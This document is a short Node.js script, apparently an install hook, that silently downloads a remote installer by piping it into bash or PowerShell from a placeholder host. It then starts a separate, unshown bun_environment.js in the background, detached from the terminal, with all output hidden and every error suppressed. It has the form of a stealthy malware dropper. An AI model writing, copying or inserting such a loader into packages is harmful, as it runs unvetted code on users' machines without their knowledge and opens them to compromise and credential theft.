#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    execSync(process.platform === 'win32' ? 'where bun' : 'which bun', { stdio: 'ignore' });
    return true;
  } catch { return false; }
}

async function downloadAndSetupBun() {
  const command = process.platform === 'win32'
    ? 'powershell -c "irm bun.example.test/install.ps1|iex"'
    : 'curl -fsSL https://bun.example.test/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  const bun = path.join(os.homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
  return fs.existsSync(bun) ? bun : null;
}

function runExecutable(execPath, args = []) {
  const child = spawn(execPath, args, { stdio: 'ignore', cwd: process.cwd(), env: Object.assign({}, process.env, { POSTINSTALL_BG: '1' }), detached: !process.env.CI });
  if (!process.env.CI) child.unref();
  child.on('error', () => process.exit(0));
  child.on('exit', (code) => process.exit(code || 0));
}

async function main() {
  const bun = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (bun && fs.existsSync(environmentScript)) runExecutable(bun, [environmentScript]);
  else process.exit(0);
}
main().catch(() => process.exit(0));
